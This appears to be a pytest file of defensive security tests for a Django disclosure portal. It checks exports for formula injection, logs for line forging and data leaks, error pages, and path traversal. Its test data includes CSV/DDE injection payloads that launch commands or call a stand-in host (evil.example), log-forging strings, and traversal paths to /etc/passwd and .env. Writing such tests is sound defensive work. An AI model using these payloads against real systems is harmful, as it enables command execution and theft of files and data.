"""Tables for spreadsheets compute nothing; errors and logs tell nothing."""

from __future__ import annotations

import csv
import io
import logging

import openpyxl
import pytest
from django.test import Client

from gongkai.disclosure.models import Catalogue, CatalogueEntry, Item
from tests.conftest import AT

FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "  =1+1", "\u3000=1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "|calc", "%0A=1+1", "'=1+1\n=1", '"=1+1', "=\t1",
    "=DDE(\"cmd\";\"/C calc\")", "=IMPORTXML(\"http://evil.example\")", "=WEBSERVICE(\"http://evil.example\")", "-2+3+cmd|' /C calc'!A0",
    "\ufeff=1+1", "\u200b=1+1", "\u2003=1+1", "\x0b=1+1", "\x0c=1+1", "\u202e=1+1",
]  # fmt: skip
INVISIBLE = " \t\r\n\x0b\x0c\u3000\u00a0\ufeff\u200b\u2003\u202e\u200e\u200f\u2060"


def computes(cell: str) -> bool:
    """Whether a spreadsheet might take the cell for a formula, blanks and invisible characters in front left aside."""
    return cell.lstrip(INVISIBLE)[:1] in set("=+-@＝＋－＠|%") and cell != "-"


def cells(response) -> list[str]:
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("page", ["/desk/items.csv", "/desk/todo.csv"])
def test_no_cell_of_a_table_begins_like_a_formula(at, desk, town, page):
    from gongkai.agencies.models import Organ, Section
    from gongkai.disclosure.models import Draft

    for formula in FORMULAS:
        item = desk.draft(title=f"x{formula}")
        Item.objects.filter(pk=item.pk).update(working_title=formula)
        Draft.objects.filter(item=item).update(title=formula)
    Organ.objects.filter(pk=town.organ.pk).update(name="=1+1", short_name="+1")
    Section.objects.filter(pk=town.section.pk).update(name="@SUM(1)")
    found = cells(at("drafter").client.get(page))
    assert len(found) > len(FORMULAS) * 4
    assert [cell for cell in found if computes(cell)] == []


def test_the_table_of_what_is_missing_computes_nothing(at, town):
    catalogue = Catalogue.objects.create(organ=town.organ, year=2026, imported_at=AT)
    for serial, formula in enumerate(FORMULAS, start=1):
        CatalogueEntry.objects.create(
            catalogue=catalogue, serial=serial, level1=formula, level2=formula, content=formula, basis=formula,
            limit_text=formula, limit_kind="free_text", subject_text=formula, channels=[], audience=formula,
            method="proactive", level=formula[:40], heading="20-11",
        )  # fmt: skip
    client = at("drafter").client
    found = cells(client.get("/desk/coverage/?export=1"))
    assert len(found) > len(FORMULAS)
    assert [cell for cell in found if computes(cell)] == []


def test_the_catalogue_as_a_workbook_holds_no_formula(at, town):
    catalogue = Catalogue.objects.create(organ=town.organ, year=2026, imported_at=AT)
    kept = [formula for formula in FORMULAS if not set(formula) & set("\x0b\x0c")]
    for serial, formula in enumerate(kept, start=1):
        CatalogueEntry.objects.create(
            catalogue=catalogue, serial=serial, level1=formula, level2=formula, content=formula, basis=formula,
            limit_text=formula, limit_kind="free_text", subject_text=formula, channels=["政府网站"], audience="全社会",
            method="proactive", level="市级", heading="20-11",
        )  # fmt: skip
    response = at("drafter").client.get("/desk/catalogue/?export=1&organ=QH-MZ")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(rows) > len(kept) * 4
    assert [cell.value for cell in rows if cell.data_type == "f"] == []


def test_a_control_character_in_a_catalogue_does_not_break_its_workbook(at, town):
    catalogue = Catalogue.objects.create(organ=town.organ, year=2026, imported_at=AT)
    CatalogueEntry.objects.create(
        catalogue=catalogue, serial=1, level1="甲\x0b乙\x01", content="丙\x0c", limit_text="及时", limit_kind="free_text",
        subject_text="局", channels=[], audience="全社会", method="proactive", level="市级", heading="20-11",
    )  # fmt: skip
    assert at("drafter").client.get("/desk/catalogue/?export=1&organ=QH-MZ").status_code == 200


class Lines(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.setFormatter(logging.Formatter())
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@pytest.fixture
def log():
    handler = Lines()
    loggers = [
        logging.getLogger(),
        logging.getLogger("axes"),
        logging.getLogger("django"),
        logging.getLogger("gongkai"),
    ]
    kept = [(logger, logger.level) for logger in loggers]
    for logger in loggers:
        logger.setLevel(logging.INFO)
        if logger is loggers[0] or not logger.propagate:
            logger.addHandler(handler)
    yield handler
    for logger, level in kept:
        logger.setLevel(level)
        logger.removeHandler(handler)


BROKEN = [
    "%0d%0aFAKE admin signed in",
    "%0aFAKE",
    "%0dFAKE",
    "%1b[31mFAKE",
    "%e2%80%a8FAKE",
    "%c2%85FAKE",
    "%0b%0cFAKE",
]


def test_one_event_is_one_line_of_the_log(log, town, visitor):
    for bad in BROKEN:
        for address in (f"/x{bad}/", f"/items/{bad}/", f"/desk/{bad}/", f"/desk/organs/{bad}/"):
            visitor.client.get(address)
            visitor.client.post(address)
    for name in ("T001\r\nFAKE", "T001\nFAKE", "\x1b[2JFAKE"):
        for _ in range(6):
            visitor.client.post(
                "/desk/login/",
                {"username": name, "password": "x"},
                HTTP_USER_AGENT="a\x1b[31mFAKE",
                HTTP_REFERER="http://x/FAKE",
            )
    visitor.client.get("/", HTTP_HOST="a\r\nFAKE")
    Client(enforce_csrf_checks=True).post(
        "/correction/", {}, HTTP_REFERER="https://x/\x1b[31mFAKE", HTTP_ORIGIN="https://x\x1bFAKE"
    )
    assert len(log.lines) > 5
    told = [line for line in log.lines if any(c in line for c in "\r\x1b\u2028\x85\x0b\x0c") or "\nFAKE" in line]
    assert told == []


CANARY = ("T001", "一个很长的口令", "来信人乙", "13912345678", "11010519491231002X", "删去我的名字")


def test_logs_hold_no_password_no_contact_and_no_words_of_a_request(log, desk, town, at):
    desk.release()
    client = Client()
    client.post("/desk/login/", {"username": "T009", "password": "一个很长的口令"})
    for _ in range(6):
        client.post("/desk/login/", {"username": "T009", "password": "一个很长的口令"})
    client.post(
        "/correction/",
        {
            "page": "900000002/2026-00001",
            "kind": "delete",
            "contact": "来信人乙 13912345678",
            "words": "删去我的名字 11010519491231002X",
        },
    )
    client.post("/correction/", {"page": "没有这个号", "contact": "来信人乙 13912345678", "words": "删去我的名字"})
    client.get("/search/?q=11010519491231002X")
    client.get("/nowhere/?contact=13912345678")
    at("drafter").client.post("/desk/me/", {"old": "一个很长的口令", "new": "一个很长的口令"})
    told = [(word, line) for line in log.lines for word in CANARY[1:] if word in line]
    assert told == []


def test_the_record_holds_no_contact_and_no_words_of_a_request(desk):
    import json

    from gongkai.ledger.models import Fact

    desk.release()
    Client().post(
        "/correction/",
        {"page": "900000002/2026-00001", "kind": "delete", "contact": "来信人乙 13912345678", "words": "删去我的名字"},
    )
    rows = Fact.objects.filter(kind="item.correction_asked")
    assert rows.count() == 1
    kept = json.dumps([str(value) for row in rows.values_list() for value in row], ensure_ascii=False)
    assert not any(word in kept for word in CANARY)


def test_a_fault_shows_the_visitor_no_inside(desk, monkeypatch, settings):
    settings.DEBUG = False
    from gongkai.portal.views import home

    def broken(*args, **kwargs):
        secret = "连接串 postgres://user:secret@db"
        raise RuntimeError(secret)

    monkeypatch.setattr(home, "render", broken)
    client = Client(raise_request_exception=False)
    response = client.get("/?contact=13912345678", HTTP_COOKIE="sessionid=abc")
    text = response.content.decode()
    assert response.status_code == 500
    assert "系统出了故障" in text
    for word in ("secret", "Traceback", "RuntimeError", ".py", "13912345678", "line ", "django"):
        assert word not in text, word


@pytest.mark.parametrize("address", ["/nowhere/%3Cscript%3E/", "/items/13912345678/", "/desk/items/AAAA/"])
def test_error_pages_repeat_nothing_of_the_address(address, at, town):
    said = at("drafter").client.get(address).content.decode().split("<main")[1].split("</main>")[0]
    assert "13912345678" not in said
    assert "script" not in said


@pytest.mark.parametrize("address", ["/static/../config/settings/base.py", "/static/..%2f..%2fgongkai.sqlite3", "/static/%2e%2e/gongkai.sqlite3",
                                     "/static//etc/passwd", "/files/../../etc/passwd", "/static/.env", "/.git/config", "/var/gongkai.sqlite3"])  # fmt: skip
def test_no_file_outside_is_served(address, town):
    response = Client().get(address)
    assert response.status_code in (301, 302, 400, 404)
    body = response.content if not response.streaming else b"".join(response.streaming_content)
    assert b"root:" not in body
    assert b"SQLite" not in body
    assert b"SECRET_KEY" not in body
